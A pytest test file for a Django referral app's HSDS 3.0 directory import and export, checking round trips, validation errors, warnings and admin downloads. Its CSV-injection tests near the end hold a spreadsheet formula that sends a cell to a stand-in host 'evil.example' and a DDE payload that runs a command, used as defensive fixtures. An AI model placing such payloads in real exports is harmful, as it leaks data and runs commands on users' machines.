"""Importing and exporting a region's directory as an HSDS 3.0 tabular data package."""

import csv
import io
import json
import shutil
import zipfile
from decimal import Decimal
from pathlib import Path

import frictionless
import pytest
from django.apps import apps
from django.core.management import CommandError, call_command
from django.urls import reverse

from referrals.demo import SAMPLE_DIRECTORY, seed_directory
from referrals.hsds import (
    SERVICES,
    TABLES,
    HSDSImportError,
    category_code_for_term,
    directory_export,
    directory_import,
)
from referrals.models import (
    Attribute,
    Location,
    Organization,
    Phone,
    Service,
    TaxonomyTerm,
)

pytestmark = pytest.mark.django_db

# The HSDS 3.0 specification's own descriptor, vendored beside the code (see its README.md).
SPECIFICATION = SAMPLE_DIRECTORY.parent / "hsds" / "spec" / "datapackage.json"

MODELS = tuple(table.model for table in TABLES)
SAMPLE_COUNTS = {
    "Taxonomy": 3,
    "TaxonomyTerm": 20,
    "Organization": 12,
    "OrganizationIdentifier": 12,
    "Program": 2,
    "Location": 12,
    "Address": 13,
    "Accessibility": 12,
    "Service": 15,
    "ServiceAtLocation": 16,
    "Contact": 7,
    "Phone": 25,
    "Language": 28,
    "Schedule": 17,
    "Funding": 3,
    "ServiceArea": 56,
    "RequiredDocument": 17,
    "CostOption": 6,
    "Attribute": 45,
    "Metadata": 2,
    "MetaTableDescription": 1,
}


def directory_counts():
    return {model.__name__: model.objects.count() for model in MODELS}


def directory_snapshot():
    """Every directory row's values, and each service's categories."""
    snapshot = {model.__name__: list(model.objects.order_by("pk").values()) for model in MODELS}
    snapshot["categories"] = list(Service.categories.through.objects.order_by("pk").values())
    return snapshot


def run_import(directory, **options):
    """The import's result and the lines the import command prints for it."""
    result = directory_import(directory=directory, **options)
    return result, result.lines()


def warnings_of(result):
    return [str(warning) for warning in result.warnings]


def read_table(path):
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames), list(reader)


def write_table(path, header, rows, encoding="utf-8"):
    with path.open("w", newline="", encoding=encoding) as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)


def edit_row(package, file_name, row_number, /, **changes):
    """Change cells of the row at ``row_number`` (the header is row 1, as the errors count)."""
    header, rows = read_table(package / file_name)
    rows[row_number - 2].update(changes)
    write_table(package / file_name, header, rows)
    return rows[row_number - 2]


def drop_column(package, name, column):
    header, rows = read_table(package / name)
    header.remove(column)
    write_table(package / name, header, [{key: row[key] for key in header} for row in rows])


@pytest.fixture
def package(tmp_path):
    """A copy of the sample package that a test may break."""
    return Path(shutil.copytree(SAMPLE_DIRECTORY, tmp_path / "package"))


def test_sample_package_imports_every_table():
    result, output = run_import(SAMPLE_DIRECTORY)

    assert directory_counts() == SAMPLE_COUNTS
    assert "services.csv: 15 created, 0 updated, 0 unchanged" in output
    assert "addresses.csv: 13 created, 0 updated, 0 unchanged" in output
    assert result.warnings == []


def test_sample_package_has_a_value_in_every_column_of_the_specification():
    """So that the round trip below checks every table and every column of HSDS 3.0."""
    specification = json.loads(SPECIFICATION.read_text(encoding="utf-8"))

    for resource in specification["resources"]:
        _header, rows = read_table(SAMPLE_DIRECTORY / resource["path"])
        for field in resource["schema"]["fields"]:
            assert any(row[field["name"]] for row in rows), f"{resource['path']}: {field['name']} is empty"


def test_sample_services_take_categories_and_insurance_from_attributes():
    run_import(SAMPLE_DIRECTORY)

    clinic = Service.objects.get(name="Pediatric Neuromuscular Clinic")
    crisis = Service.objects.get(name="Child Mobile Crisis Team")
    # "Neuromuscular Care" and "Mobile Crisis Response" are not in the mapping: their parents are.
    assert [category.code for category in clinic.categories.all()] == ["medical"]
    assert [category.code for category in crisis.categories.all()] == ["behavioral_health"]
    assert clinic.insurance_accepted == "CHIP, Medicaid, Private"
    assert TaxonomyTerm.objects.get(name="Speech-Language Pathology").category.code == "speech_therapy"
    assert TaxonomyTerm.objects.get(name="Medicaid").category is None


def test_sample_addresses_and_schedules_fill_town_and_hours():
    run_import(SAMPLE_DIRECTORY)

    pantry = Location.objects.get(name="Alderwick Food Pantry")
    assert pantry.city == "Alderwick"
    assert pantry.address_1 == "19 Church Hill Road"
    assert pantry.postal_code == "12590"
    # The hospital has a postal address too: the physical one is the one shown.
    assert Location.objects.get(name="KVCH Main Campus").address_1 == "100 Lighthouse Road"
    assert pantry.hours == "Tue, Thu 15:00–18:00; Sat 09:00–12:00"
    assert Location.objects.get(name="Behavioral Health Center").hours == "Open 24 hours, 7 days a week"


def test_importing_the_same_package_again_changes_nothing():
    run_import(SAMPLE_DIRECTORY)
    before = directory_snapshot()

    result, output = run_import(SAMPLE_DIRECTORY)

    assert not result.changed
    assert "services.csv: 0 created, 0 updated, 15 unchanged" in output
    assert directory_snapshot() == before


def test_a_changed_row_is_updated_by_its_hsds_id(package):
    run_import(SAMPLE_DIRECTORY)
    row = edit_row(package, "services.csv", 2, name="Neuromuscular Clinic (renamed)", maximum_age="18")

    result, _output = run_import(package)

    assert result.counts["services.csv"] == {"created": 0, "updated": 1, "unchanged": 14}
    service = Service.objects.get(hsds_id=row["id"])
    assert service.name == "Neuromuscular Clinic (renamed)"
    assert service.maximum_age == 18
    assert "renamed" in service.search_text
    assert directory_counts() == SAMPLE_COUNTS


def test_import_export_import_changes_nothing(tmp_path):
    run_import(SAMPLE_DIRECTORY)
    before = directory_snapshot()
    directory_export(directory=tmp_path / "export")

    result, _output = run_import(tmp_path / "export")

    assert not result.changed
    assert len(result.counts) == len(TABLES)
    assert all(count["unchanged"] > 0 for count in result.counts.values())
    assert directory_snapshot() == before


def same_cell(column, ours, theirs):
    """Cells equal as HSDS reads them: numbers as numbers, times with or without seconds.

    A service's last_modified that the package left empty is the time of the import.
    """
    if column.keep_when_empty and not theirs:
        return bool(ours)
    if column.hsds_type == "number" and ours and theirs:
        return Decimal(ours) == Decimal(theirs)
    if column.kind == "time" and ours and theirs:
        return ours[:5] == theirs[:5]
    return ours == theirs


def test_the_export_gives_back_every_table_and_column_the_package_gave(tmp_path):
    run_import(SAMPLE_DIRECTORY)

    directory_export(directory=tmp_path / "export")

    for table in TABLES:
        _header, given = read_table(SAMPLE_DIRECTORY / table.path)
        header, exported = read_table(tmp_path / "export" / table.path)
        assert header == [column.name for column in table.specified_columns]
        exported_by_id = {row["id"]: row for row in exported}
        assert set(exported_by_id) == {row["id"] for row in given}, table.path
        for row in given:
            for column in table.specified_columns:
                ours = exported_by_id[row["id"]][column.name]
                assert same_cell(column, ours, row[column.name]), (table.path, row["id"], column.name, ours)


def empty_directory():
    for model in reversed(MODELS):
        model.objects.all().delete()


def test_an_export_imported_into_an_empty_directory_exports_the_same_files(tmp_path):
    run_import(SAMPLE_DIRECTORY)
    directory_export(directory=tmp_path / "first")
    empty_directory()

    run_import(tmp_path / "first")
    directory_export(directory=tmp_path / "second")

    for table in TABLES:
        first = (tmp_path / "first" / table.path).read_bytes()
        assert (tmp_path / "second" / table.path).read_bytes() == first, table.path


def test_export_writes_hsds_columns_and_a_datapackage(tmp_path):
    run_import(SAMPLE_DIRECTORY)

    directory_export(directory=tmp_path)

    header, rows = read_table(tmp_path / "services.csv")
    assert header == [column.name for column in SERVICES.columns]
    assert len(rows) == 15
    descriptor = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["profile"] == "tabular-data-package"
    resources = {resource["name"]: resource for resource in descriptor["resources"]}
    assert resources["service"]["path"] == "services.csv"
    status = next(field for field in resources["service"]["schema"]["fields"] if field["name"] == "status")
    assert status["constraints"]["enum"] == ["active", "inactive", "defunct", "temporarily closed"]
    _header, addresses = read_table(tmp_path / "addresses.csv")
    assert {row["city"] for row in addresses} >= {"Alderwick", "Eastport", "Riverton"}


def test_import_command_prints_counts():
    output = io.StringIO()

    call_command("import_hsds", str(SAMPLE_DIRECTORY), stdout=output)

    assert "organizations.csv: 12 created, 0 updated, 0 unchanged" in output.getvalue()


def test_import_command_prints_notes_then_warnings_then_counts_then_a_summary(package):
    (package / "README.txt").write_text("About this package", encoding="utf-8")
    edit_row(package, "locations.csv", 2, organization_id="gone-away", latitude="100")
    edit_row(package, "locations.csv", 3, latitude="95.5")
    output = io.StringIO()

    call_command("import_hsds", str(package), stdout=output)

    lines = output.getvalue().splitlines()
    assert lines[:4] == [
        "Note: Ignoring README.txt: not a table of HSDS 3.0.",
        "Warning: locations.csv row 2, field 'latitude': 100 is not between -90 and 90; imported as empty.",
        "Warning: locations.csv row 3, field 'latitude': 95.5 is not between -90 and 90; imported as empty.",
        "Warning: locations.csv row 2, field 'organization_id': no organization has id 'gone-away'; "
        "imported as empty.",
    ]
    assert lines[4:7] == [
        "taxonomies.csv: 3 created, 0 updated, 0 unchanged",
        "taxonomy_terms.csv: 20 created, 0 updated, 0 unchanged",
        "organizations.csv: 12 created, 0 updated, 0 unchanged",
    ]
    assert lines[-3:] == [
        "Warnings: 3, imported as the warnings say:",
        "  locations.csv, field 'latitude': 2",
        "  locations.csv, field 'organization_id': 1",
    ]


def test_import_and_export_print_nothing_themselves(tmp_path, capsys):
    directory_import(directory=SAMPLE_DIRECTORY)
    directory_export(directory=tmp_path)

    assert capsys.readouterr().out == ""


def test_export_command_writes_the_package(tmp_path):
    run_import(SAMPLE_DIRECTORY)
    output = io.StringIO()

    call_command("export_hsds", str(tmp_path / "out"), stdout=output)

    assert "services.csv: 15 rows" in output.getvalue().splitlines()
    assert output.getvalue().splitlines()[-1] == "datapackage.json: written"
    assert (tmp_path / "out" / "datapackage.json").is_file()


def specification_package(export):
    """The specification's own descriptor, reading the files the export wrote."""
    specification = json.loads(SPECIFICATION.read_text(encoding="utf-8"))
    return frictionless.Package(specification, basepath=str(export))


def validation_errors(report):
    errors = [error.message for error in report.errors]
    return errors + [f"{task.name}: {error.message}" for task in report.tasks for error in task.errors]


def test_export_is_a_valid_hsds_3_0_tabular_data_package(tmp_path):
    run_import(SAMPLE_DIRECTORY)
    directory_export(directory=tmp_path)

    report = specification_package(tmp_path).validate()

    assert report.valid, "\n".join(validation_errors(report))
    assert len(report.tasks) == 21
    assert all(task.stats["rows"] > 0 for task in report.tasks)


def column_declarations(resource):
    return [
        (
            field["name"],
            field["type"],
            field.get("format", "default"),
            field.get("constraints", {}).get("required", False),
            field.get("constraints", {}).get("enum"),
        )
        for field in resource["schema"]["fields"]
    ]


def test_export_datapackage_declares_each_column_as_the_specification_does(tmp_path):
    directory_export(directory=tmp_path)
    specification = json.loads(SPECIFICATION.read_text(encoding="utf-8"))
    theirs = {resource["name"]: resource for resource in specification["resources"]}

    ours = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))["resources"]

    assert sorted(resource["name"] for resource in ours) == sorted(theirs)
    for resource in ours:
        assert resource["path"] == theirs[resource["name"]]["path"]
        assert column_declarations(resource) == column_declarations(theirs[resource["name"]])


def test_export_is_valid_against_its_own_datapackage(tmp_path):
    run_import(SAMPLE_DIRECTORY)
    directory_export(directory=tmp_path)

    report = frictionless.Package(str(tmp_path / "datapackage.json")).validate()

    assert report.valid, "\n".join(validation_errors(report))


def test_attribute_labels_are_kept_though_hsds_3_0_has_no_such_column(package, tmp_path):
    row = edit_row(package, "attributes.csv", 2, label="Main service")
    run_import(package)
    directory_export(directory=tmp_path / "export")

    header, _rows = read_table(tmp_path / "export" / "attributes.csv")
    result, _output = run_import(tmp_path / "export")

    assert "label" not in header
    assert not result.changed
    assert Attribute.objects.get(hsds_id=row["id"]).label == "Main service"


def test_demo_directory_seeds_once():
    seed_directory()

    assert not seed_directory().changed
    assert directory_counts() == SAMPLE_COUNTS


# Refused packages: every one leaves the database exactly as it was.


def _latin1(package):
    header, rows = read_table(package / "services.csv")
    write_table(package / "services.csv", header, rows, encoding="latin-1")


MALFORMED = [
    pytest.param(
        lambda package: drop_column(package, "services.csv", "status"),
        "services.csv row 1, field 'status': required column is missing.",
        id="missing-required-column",
    ),
    pytest.param(
        lambda package: edit_row(package, "organizations.csv", 3, description=""),
        "organizations.csv row 3, field 'description': a value is required.",
        id="missing-required-value",
    ),
    pytest.param(
        lambda package: edit_row(package, "services.csv", 4, organization_id="no-such-organization"),
        "services.csv row 4, field 'organization_id': no organization has id 'no-such-organization'.",
        id="broken-service-organization",
    ),
    pytest.param(
        lambda package: edit_row(package, "service_at_location.csv", 2, service_id="no-such-service"),
        "service_at_location.csv row 2, field 'service_id': no service has id 'no-such-service'.",
        id="broken-service-at-location-service",
    ),
    pytest.param(
        lambda package: edit_row(package, "service_at_location.csv", 3, location_id="nowhere"),
        "service_at_location.csv row 3, field 'location_id': no location has id 'nowhere'.",
        id="broken-service-at-location-location",
    ),
    pytest.param(
        lambda package: edit_row(package, "cost_options.csv", 2, service_id="gone"),
        "cost_options.csv row 2, field 'service_id': no service has id 'gone'.",
        id="broken-cost-option-service",
    ),
    pytest.param(
        lambda package: edit_row(package, "attributes.csv", 2, link_id="gone"),
        "attributes.csv row 2, field 'link_id': no service has id 'gone'.",
        id="broken-attribute-link",
    ),
    pytest.param(
        lambda package: edit_row(package, "services.csv", 2, status="open"),
        "services.csv row 2, field 'status': 'open' is not one of: active, inactive, defunct, "
        "temporarily closed.",
        id="bad-required-choice",
    ),
    pytest.param(
        lambda package: edit_row(package, "metadata.csv", 2, last_action_date="last week"),
        "metadata.csv row 2, field 'last_action_date': 'last week' is not a date; write it as YYYY-MM-DD.",
        id="bad-required-date",
    ),
    pytest.param(
        lambda package: edit_row(package, "addresses.csv", 2, country="USA"),
        "addresses.csv row 2, field 'country': Ensure this value has at most 2 characters (it has 3).",
        id="required-value-too-long",
    ),
    pytest.param(
        lambda package: edit_row(
            package, "locations.csv", 3, id=read_table(package / "locations.csv")[1][0]["id"]
        ),
        "locations.csv row 3, field 'id': duplicate id",
        id="duplicate-id",
    ),
    pytest.param(_latin1, "services.csv: is not UTF-8 text", id="not-utf-8"),
    pytest.param(
        lambda package: edit_row(package, "services.csv", 3, description="Speech\x00therapy"),
        "services.csv: holds a NUL character on line 3; remove it.",
        id="nul-character",
    ),
]


@pytest.mark.parametrize(("break_package", "message"), MALFORMED)
def test_a_malformed_package_is_refused_and_changes_nothing(package, break_package, message):
    run_import(SAMPLE_DIRECTORY)
    renamed = edit_row(package, "organizations.csv", 6, name="A valid change that must not be kept")
    break_package(package)
    before = directory_snapshot()

    with pytest.raises(HSDSImportError) as refused:
        run_import(package)

    assert message in str(refused.value)
    assert directory_snapshot() == before
    assert Organization.objects.get(hsds_id=renamed["id"]).name != renamed["name"]


def test_a_malformed_package_imports_nothing_into_an_empty_directory(package):
    edit_row(package, "services.csv", 16, organization_id="no-such-organization")

    with pytest.raises(HSDSImportError):
        run_import(package)

    assert set(directory_counts().values()) == {0}


def test_every_problem_of_a_package_is_listed_at_once(package):
    edit_row(package, "services.csv", 2, status="")
    edit_row(package, "locations.csv", 2, location_type="")

    with pytest.raises(HSDSImportError) as refused:
        run_import(package)

    assert len(refused.value.problems) == 2


def test_import_command_refuses_with_a_command_error(package):
    edit_row(package, "services.csv", 2, name="")

    with pytest.raises(CommandError, match="services.csv row 2, field 'name'"):
        call_command("import_hsds", str(package), stdout=io.StringIO())

    assert Service.objects.count() == 0


def test_a_missing_directory_is_refused(tmp_path):
    with pytest.raises(HSDSImportError, match="no such directory"):
        run_import(tmp_path / "nowhere")


def test_a_folder_without_hsds_files_is_refused(tmp_path):
    (tmp_path / "notes.txt").write_text("nothing here", encoding="utf-8")

    with pytest.raises(HSDSImportError, match="no HSDS files found"):
        run_import(tmp_path)


# Unusable optional values: imported as empty, with a warning naming file, row, field and value.

TOLERATED = [
    pytest.param(
        "locations.csv",
        2,
        {"latitude": "100"},
        Location,
        "latitude",
        None,
        "locations.csv row 2, field 'latitude': 100 is not between -90 and 90; imported as empty.",
        id="latitude-out-of-range",
    ),
    pytest.param(
        "locations.csv",
        3,
        {"longitude": "east"},
        Location,
        "longitude",
        None,
        "locations.csv row 3, field 'longitude': 'east' is not a number; imported as empty.",
        id="longitude-not-a-number",
    ),
    pytest.param(
        "services.csv",
        2,
        {"url": "www example org"},
        Service,
        "url",
        "",
        "services.csv row 2, field 'url': 'www example org' is not a web address (URI), such as "
        "https://example.org/; imported as empty.",
        id="malformed-url",
    ),
    pytest.param(
        "organizations.csv",
        4,
        {"email": "not-an-address"},
        Organization,
        "email",
        "",
        "organizations.csv row 4, field 'email': 'not-an-address' is not an email address; "
        "imported as empty.",
        id="malformed-email",
    ),
    pytest.param(
        "phones.csv",
        2,
        {"extension": "12b"},
        Phone,
        "extension",
        None,
        "phones.csv row 2, field 'extension': '12b' is not a whole number; imported as empty.",
        id="malformed-phone-extension",
    ),
    pytest.param(
        "schedules.csv",
        2,
        {"freq": "DAILY"},
        "Schedule",
        "freq",
        "",
        "schedules.csv row 2, field 'freq': 'DAILY' is not one of: WEEKLY, MONTHLY; imported as empty.",
        id="unknown-choice",
    ),
    pytest.param(
        "services.csv",
        2,
        {"assured_date": "09/01/2026"},
        Service,
        "assured_date",
        None,
        "services.csv row 2, field 'assured_date': '09/01/2026' is not a date; write it as YYYY-MM-DD; "
        "imported as empty.",
        id="unparsable-date",
    ),
    pytest.param(
        "schedules.csv",
        2,
        {"valid_from": "2026-02-30"},
        "Schedule",
        "valid_from",
        None,
        "schedules.csv row 2, field 'valid_from': '2026-02-30' is not a date on the calendar; "
        "imported as empty.",
        id="date-not-on-the-calendar",
    ),
    pytest.param(
        "schedules.csv",
        3,
        {"opens_at": "9am"},
        "Schedule",
        "opens_at",
        None,
        "schedules.csv row 3, field 'opens_at': '9am' is not a time; write it as HH:MM; imported as empty.",
        id="unparsable-time",
    ),
    pytest.param(
        "services.csv",
        3,
        {"last_modified": "yesterday"},
        Service,
        "last_modified",
        "stamped",
        "services.csv row 3, field 'last_modified': 'yesterday' is not a date and time; write it as "
        "YYYY-MM-DDTHH:MM:SSZ; imported as empty.",
        id="unparsable-date-and-time",
    ),
    pytest.param(
        "services.csv",
        3,
        {"minimum_age": "three"},
        Service,
        "minimum_age",
        None,
        "services.csv row 3, field 'minimum_age': 'three' is not a number; imported as empty.",
        id="age-not-a-number",
    ),
    pytest.param(
        "services.csv",
        2,
        {"alternate_name": "x" * 301},
        Service,
        "alternate_name",
        "",
        "services.csv row 2, field 'alternate_name': '" + "x" * 60 + "…': Ensure this value has at most 300 "
        "characters (it has 301); imported as empty.",
        id="optional-value-too-long",
    ),
]


@pytest.mark.parametrize(
    ("file_name", "row_number", "changes", "model", "field", "kept", "warning"), TOLERATED
)
def test_an_unusable_optional_value_is_imported_as_empty_with_a_warning(
    package, file_name, row_number, changes, model, field, kept, warning
):
    row = edit_row(package, file_name, row_number, **changes)

    result, output = run_import(package)

    assert warnings_of(result) == [warning]
    assert f"Warning: {warning}" in output
    model = apps.get_model("referrals", model) if isinstance(model, str) else model
    record = model.objects.get(hsds_id=row["id"])
    if kept == "stamped":
        assert record.last_modified is not None  # the import's own time, as for a package without one
    else:
        assert getattr(record, field) == kept
    assert directory_counts() == SAMPLE_COUNTS


@pytest.mark.parametrize(
    ("file_name", "row_number", "changes", "model", "field", "kept", "warning"), TOLERATED
)
def test_strict_refuses_an_unusable_optional_value_and_changes_nothing(
    package, file_name, row_number, changes, model, field, kept, warning
):
    run_import(SAMPLE_DIRECTORY)
    edit_row(package, file_name, row_number, **changes)
    before = directory_snapshot()

    with pytest.raises(HSDSImportError) as refused:
        run_import(package, strict=True)

    assert warning in refused.value.problems
    assert "strict" in str(refused.value).splitlines()[0]
    assert directory_snapshot() == before


def test_ages_in_the_wrong_order_are_both_imported_as_empty(package):
    row = edit_row(package, "services.csv", 2, minimum_age="10", maximum_age="5")

    result, _output = run_import(package)

    assert warnings_of(result) == [
        "services.csv row 2, field 'minimum_age': maximum_age 5 is below minimum_age 10; imported as empty.",
        "services.csv row 2, field 'maximum_age': maximum_age 5 is below minimum_age 10; imported as empty.",
    ]
    service = Service.objects.get(hsds_id=row["id"])
    assert (service.minimum_age, service.maximum_age) == (None, None)


def test_a_package_with_every_kind_of_unusable_value_imports_the_rest(package):
    """A state directory with a few bad cells among thousands of good ones is imported, not refused."""
    for file_name, row_number, changes, *_rest in (param.values for param in TOLERATED):
        edit_row(package, file_name, row_number, **changes)

    result, output = run_import(package)

    assert len(result.warnings) == len(TOLERATED)
    assert directory_counts() == SAMPLE_COUNTS
    assert output[-1].startswith("  ")  # the summary closes the report


def test_an_identifier_that_is_not_a_uuid_is_kept_with_a_warning(package):
    edit_row(package, "funding.csv", 2, id="funding-1")

    result, _output = run_import(package)

    assert warnings_of(result) == [
        "funding.csv row 2, field 'id': 'funding-1' is not a UUID, as HSDS 3.0 asks of identifiers; "
        "kept as given."
    ]
    assert apps.get_model("referrals", "Funding").objects.filter(hsds_id="funding-1").exists()


# Warnings and notes: the package is imported.


@pytest.mark.parametrize(
    ("file_name", "row_number", "column", "model", "field"),
    [
        ("locations.csv", 2, "organization_id", Location, "organization"),
        ("organizations.csv", 3, "parent_organization_id", Organization, "parent"),
        ("taxonomy_terms.csv", 3, "parent_id", TaxonomyTerm, "parent"),
    ],
)
def test_a_dangling_optional_reference_imports_as_empty_with_a_warning(
    package, file_name, row_number, column, model, field
):
    row = edit_row(package, file_name, row_number, **{column: "gone-away"})

    result, output = run_import(package)

    warning = f"{file_name} row {row_number}, field '{column}': no "
    assert any(
        line.startswith(warning) and "'gone-away'; imported as empty" in line for line in warnings_of(result)
    )
    assert any(line.startswith(f"Warning: {warning}") for line in output)
    assert getattr(model.objects.get(hsds_id=row["id"]), field) is None
    assert directory_counts() == SAMPLE_COUNTS


def test_unknown_files_and_columns_are_ignored_with_a_note(package):
    (package / "volunteers.csv").write_text("id,name\nc1,Someone\n", encoding="utf-8")
    (package / "README.txt").write_text("About this package", encoding="utf-8")
    header, rows = read_table(package / "services.csv")
    write_table(
        package / "services.csv",
        [*header, "favourite_colour"],
        [{**row, "favourite_colour": "blue"} for row in rows],
    )

    result, output = run_import(package)

    assert "Note: Ignoring volunteers.csv: not a table of HSDS 3.0." in output
    assert "Note: Ignoring README.txt: not a table of HSDS 3.0." in output
    assert "Note: services.csv: ignoring column(s) favourite_colour." in output
    assert directory_counts() == SAMPLE_COUNTS
    assert result.warnings == []


def test_file_names_come_from_datapackage_json(package):
    # The HSDS 3.0 drafts' own datapackage.json named the address file "addresss.csv".
    (package / "addresses.csv").rename(package / "addresss.csv")
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        if resource["name"] == "address":
            resource["path"] = "addresss.csv"
    (package / "datapackage.json").write_text(json.dumps(descriptor), encoding="utf-8")

    result, _output = run_import(package)

    assert result.counts["addresses.csv"]["created"] == 13
    assert Location.objects.get(name="Alderwick Food Pantry").city == "Alderwick"


def test_attributes_of_any_record_are_kept(package):
    organization = read_table(package / "organizations.csv")[1][0]
    row = edit_row(package, "attributes.csv", 2, link_entity="organization", link_id=organization["id"])

    result, _output = run_import(package)

    attribute = Attribute.objects.get(hsds_id=row["id"])
    assert (attribute.link_entity, attribute.link_id, attribute.service) == (
        "organization",
        organization["id"],
        None,
    )
    assert result.warnings == []


def test_an_attribute_of_a_table_hsds_does_not_have_is_kept_unchecked_with_a_warning(package):
    row = edit_row(package, "attributes.csv", 2, link_entity="volunteer", link_id="v-1")

    result, _output = run_import(package)

    assert warnings_of(result) == [
        "attributes.csv row 2, field 'link_entity': 'volunteer' names no table of HSDS 3.0, so link_id 'v-1' "
        "is kept as given, unchecked."
    ]
    assert Attribute.objects.get(hsds_id=row["id"]).link_id == "v-1"


@pytest.mark.parametrize(
    ("name", "code", "expected"),
    [
        ("Physical Therapy", "", "physical_therapy"),
        ("PHYSIOTHERAPY", "", "physical_therapy"),
        ("Speech-Language Pathology", "", "speech_therapy"),
        ("Housing", "", "housing"),
        ("Non-Emergency Medical Transportation", "", "transportation"),
        ("Anything", "early_intervention", "early_intervention"),
        ("Asistencia legal", "legal-aid", "legal"),
        ("Knitting circle", "KNIT", None),
    ],
)
def test_taxonomy_terms_map_onto_service_categories(name, code, expected):
    assert category_code_for_term(name, code) == expected


# Cells a spreadsheet would run as a formula: imported as given with a warning, exported as text.

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_a_formula_cell_is_imported_as_given_with_a_warning_naming_file_row_and_field(package):
    organization = edit_row(package, "organizations.csv", 3, name=FORMULA)
    service = edit_row(package, "services.csv", 2, description="@SUM(1+1)*cmd|' /C calc'!A0")
    location = edit_row(package, "locations.csv", 4, transportation="-Bus 12, stop on Main Street")
    edit_row(package, "locations.csv", 5, transportation="-2+3")  # a plain number: nothing runs, no warning

    result, output = run_import(package)

    assert warnings_of(result) == [
        "organizations.csv row 3, field 'name': begins with '=' as a spreadsheet formula does; imported as "
        "given, exported with a leading apostrophe so that spreadsheets show it as text.",
        "locations.csv row 4, field 'transportation': begins with '-' as a spreadsheet formula does; "
        "imported as given, exported with a leading apostrophe so that spreadsheets show it as text.",
        "services.csv row 2, field 'description': begins with '@' as a spreadsheet formula does; imported "
        "as given, exported with a leading apostrophe so that spreadsheets show it as text.",
    ]
    assert [line for line in output if line.startswith("Warning:")] == [
        f"Warning: {warning}" for warning in warnings_of(result)
    ]
    assert Organization.objects.get(hsds_id=organization["id"]).name == FORMULA
    assert Service.objects.get(hsds_id=service["id"]).description.startswith("@SUM(")
    assert Location.objects.get(hsds_id=location["id"]).transportation == "-Bus 12, stop on Main Street"
    assert directory_counts() == SAMPLE_COUNTS


def test_phone_numbers_are_not_warned_about(package):
    header, rows = read_table(package / "phones.csv")
    rows[0]["number"] = "+1 555-0100 ext. 4"  # not a plain number, yet how phone numbers are written
    rows[1]["number"] = "+1 (555) 000-1234"
    write_table(package / "phones.csv", header, rows)

    result, _output = run_import(package)

    assert result.warnings == []
    assert Phone.objects.get(hsds_id=rows[0]["id"]).number == "+1 555-0100 ext. 4"


def test_a_formula_cell_imported_comes_out_of_the_export_as_text(package, tmp_path):
    organization = edit_row(package, "organizations.csv", 3, name=FORMULA)
    edit_row(package, "phones.csv", 2, number="+1 (555) 000-1234")
    run_import(package)

    directory_export(directory=tmp_path / "export")

    _header, organizations = read_table(tmp_path / "export" / "organizations.csv")
    exported = next(row for row in organizations if row["id"] == organization["id"])
    assert exported["name"] == "'" + FORMULA
    _header, phones = read_table(tmp_path / "export" / "phones.csv")
    assert "+1 (555) 000-1234" in [row["number"] for row in phones]  # a plain phone number stays as it is


# The specification's own example package (referrals/hsds/spec/examples/csv): one row in each table.

EXAMPLE = SPECIFICATION.parent / "examples" / "csv"


def test_the_specifications_example_package_imports_with_warnings_for_what_it_cannot_use():
    result, output = run_import(EXAMPLE)

    assert all(count == {"created": 1, "updated": 0, "unchanged": 0} for count in result.counts.values())
    assert len(result.counts) == len(TABLES)
    # Its location has a latitude of 100, which HSDS's own schema allows.
    assert "locations.csv row 2, field 'latitude': 100 is not between -90 and 90; imported as empty." in (
        warnings_of(result)
    )
    assert Location.objects.get().latitude is None
    assert Service.objects.get().name == "Community Counselling"
    assert output[-1].startswith("  ")


def test_the_specifications_example_package_exports_as_a_valid_package(tmp_path):
    run_import(EXAMPLE)

    directory_export(directory=tmp_path)

    report = specification_package(tmp_path).validate()
    assert report.valid, "\n".join(validation_errors(report))


def test_administrators_download_the_whole_directory_as_one_hsds_package(client, admin, tmp_path):
    run_import(SAMPLE_DIRECTORY)
    client.force_login(admin)

    response = client.get(reverse("admin:referrals_service_export_hsds"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="directory-hsds-3.0-')
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        archive.extractall(tmp_path)
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(
        [table.path for table in TABLES] + ["datapackage.json"]
    )
    assert specification_package(tmp_path).validate().valid


def test_the_service_list_in_the_admin_links_to_the_download(client, admin):
    client.force_login(admin)

    response = client.get(reverse("admin:referrals_service_changelist"))

    assert reverse("admin:referrals_service_export_hsds").encode() in response.content


def test_staff_who_are_not_administrators_cannot_download_the_directory(client, coordinator):
    client.force_login(coordinator)

    response = client.get(reverse("admin:referrals_service_export_hsds"))

    assert response.status_code in {302, 404}


def test_a_datapackage_naming_a_file_the_file_system_refuses_is_refused(package):
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    descriptor["resources"][0]["path"] = "é" * 300 + ".csv"
    (package / "datapackage.json").write_text(json.dumps(descriptor), encoding="utf-8")

    with pytest.raises(HSDSImportError, match="names a file that cannot be opened"):
        run_import(package)

    assert set(directory_counts().values()) == {0}
